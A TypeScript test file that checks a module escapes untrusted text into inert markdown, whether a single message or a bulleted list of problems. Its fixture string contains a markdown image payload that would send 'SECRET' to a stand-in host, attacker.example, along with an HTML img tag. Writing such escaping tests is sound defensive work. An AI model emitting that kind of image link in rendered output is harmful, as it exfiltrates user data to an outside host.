/** Tests of how text from files a run could have written is put in markdown. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { asMarkdownText, problemList } from "../src/markdownText";

/** The characters of `characters` in `markdown` that no backslash escapes. */
function unescaped(markdown: string, characters: string): string[] {
  const found: string[] = [];
  let escaped = false;
  for (const character of markdown) {
    if (!escaped && characters.includes(character)) {
      found.push(character);
    }
    escaped = !escaped && character === "\\";
  }
  return found;
}

/** The text a markdown reader sees: backslash escapes of punctuation undone. */
function read(markdown: string): string {
  return markdown.replace(/\\([!-/:-@[-`{-~])/g, "$1");
}

const MESSAGE = 'case "a": ["![x](https://attacker.example/?d=SECRET)"]: unknown key <img src=x> `code`';

test("a message with an image, HTML and code is shown as its text, with nothing to render", () => {
  // The positive control: the message as it is holds what a renderer would act on.
  assert.notDeepEqual(unescaped(MESSAGE, "![]()<>`"), []);
  const shown = asMarkdownText(MESSAGE);
  assert.deepEqual(unescaped(shown, "![]()<>`*_#"), []);
  assert.equal(read(shown), MESSAGE);
});

test("problems are a list whose items are their messages as text", () => {
  const list = problemList([MESSAGE, "plain words"]);
  assert.equal(list.split("\n").length, 2);
  assert.ok(list.startsWith("- "));
  assert.equal(read(list.split("\n")[0].slice(2)), MESSAGE);
  assert.equal(list.split("\n")[1], "- plain words");
});
